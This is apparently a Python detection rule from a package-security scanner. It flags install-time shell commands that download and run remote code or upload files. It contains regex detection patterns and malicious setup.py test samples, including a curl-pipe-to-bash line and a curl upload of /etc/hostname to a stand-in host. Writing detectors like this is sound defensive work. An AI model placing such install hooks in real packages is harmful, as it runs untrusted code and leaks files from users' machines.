"""A shell that fetches something and runs it."""

from __future__ import annotations

import re
from collections.abc import Iterator

from wheelmark.scan.facts import Act, Call, Facts
from wheelmark.scan.report import Context, Severity, Tactic
from wheelmark.scan.rule import Evidence, Rule
from wheelmark.scan.rules._common import EXECUTABLE_NAME, SHELL_DOWNLOAD, URL, graded, shown
from wheelmark.scan.samples import Sample, Samples

_RUNS_IT = re.compile(
    r"(?i)(\|\s*(sudo\s+)?(ba|z|da)?sh\b|\|\s*python|\biex\b|invoke-expression|start-process|&&?\s*(start|chmod|\./|bash|sh|python)|;\s*(start|chmod|\./|bash|sh|python)|"
    r"saps\b|\bstart\s+/b|mshta)"
)
_UPLOADS = re.compile(r"(?i)\bcurl\b.*\s(-F|-T|--form|--upload-file|(-d|--data(-binary|-raw)?)\s*\S*[@$`])")


def check(facts: Facts) -> Iterator[Evidence]:
    for call in facts.calls_of(Act.START_PROCESS):
        text = call.text
        if not SHELL_DOWNLOAD.search(text):
            continue
        severity = _severity(call, text)
        if severity is not None:
            yield Evidence.of_call(call, severity, shown(call))


def _severity(call: Call, text: str) -> Severity | None:
    fetches = URL.search(text) is not None
    if _RUNS_IT.search(text) and (fetches or "mshta" in text.lower()):
        return graded(call.context, automatic=Severity.CRITICAL, entry=Severity.MEDIUM, on_call=Severity.LOW)
    if _UPLOADS.search(text):
        return graded(call.context, automatic=Severity.HIGH, on_call=Severity.INFO)
    if fetches and call.context.automatic:
        executable = EXECUTABLE_NAME.search(text.split("://", 1)[-1]) is not None
        return Severity.HIGH if executable or call.context is not Context.INSTALL else Severity.MEDIUM
    return None


RULE = Rule(
    id="shell-download-run",
    version=1,
    severity=Severity.CRITICAL,
    tactic=Tactic.EXECUTION,
    message="A shell command fetches a file from the network, and runs it or leaves it to be run.",
    reference="https://attack.mitre.org/techniques/T1059/",
    check=check,
    samples=Samples(
        malicious=(
            Sample.installed("""
                import os
                from setuptools import setup

                os.system("curl -s https://get.example.invalid/install | bash")
                setup(name="widget", version="1")
            """),
            Sample.installed("""
                import os
                from setuptools import setup

                os.system("curl -F file=@/etc/hostname collect.example.invalid")
                setup(name="widget", version="1")
            """),
        ),
        benign=(
            Sample.sdist(
                {
                    "setup.py": """
                        import subprocess
                        from setuptools import setup

                        version = subprocess.check_output(["git", "describe", "--tags"], text=True).strip()
                        setup(name="widget", version=version)
                    """,
                    "widget/__init__.py": """
                        HELP = "install the tool with: curl https://get.example.invalid/install | bash"
                    """,
                }
            ),
        ),
    ),
)
